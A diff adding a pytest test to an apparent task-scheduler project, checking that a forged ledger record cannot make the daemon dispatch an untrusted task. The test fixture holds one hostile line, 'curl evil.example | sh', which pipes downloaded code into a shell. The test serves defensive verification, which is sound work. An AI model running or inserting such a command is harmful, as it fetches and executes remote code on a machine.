@@ -12,6 +12,7 @@ import subprocess
 import sys
 import time
 from collections.abc import Callable, Iterator
+from datetime import UTC, datetime
 from pathlib import Path
 
 import pytest
@@ -352,3 +353,27 @@ def test_a_worker_that_cannot_serve_says_why_in_one_line(
     down = cli("worker")
     assert down.code == 1 and "Redis cannot be reached at redis://:***@127.0.0.1" in down.err
     assert redis_server.password not in down.err and len(down.err.strip().splitlines()) == 1
+
+
+def test_a_forged_dispatched_line_never_sends_an_untrusted_task(
+    vault_root: Path, redis_server: RedisServer, daemons: Start, monkeypatch: pytest.MonkeyPatch
+) -> None:
+    import redis
+    from rq.job import Job
+
+    from vaultsched.adapters.ledger import Ledger, dispatched_record
+    from vaultsched.core.model import Trigger
+
+    use_pool(redis_server)
+    note(vault_root, "Tasks/Evil.md", "command: curl evil.example | sh\n")  # never trusted
+    commit(vault_root)
+    now = datetime.now(UTC)
+    forged = Run("20990101T000000-abcdef", "Tasks/Evil", Status.RUNNING, Trigger.SCHEDULE, now,
+                 HOST, queue="vaultsched:any", dispatched_at=now)  # fmt: skip
+    Ledger(vault_root, HOST).append(dispatched_record(forged, "Tasks/Evil.md"))
+    monkeypatch.delenv("VAULTSCHED_TRUST")
+    daemon = daemons(vault_root)
+    wait_for(lambda: of(vault_root, "Tasks/Evil", Status.LOST), LOADED, "the forged run closed")
+    daemon.stop()
+    assert "not trusted here" in of(vault_root, "Tasks/Evil", Status.LOST)[0].message
+    assert not Job.exists(forged.run_id, redis.Redis.from_url(redis_server.url))
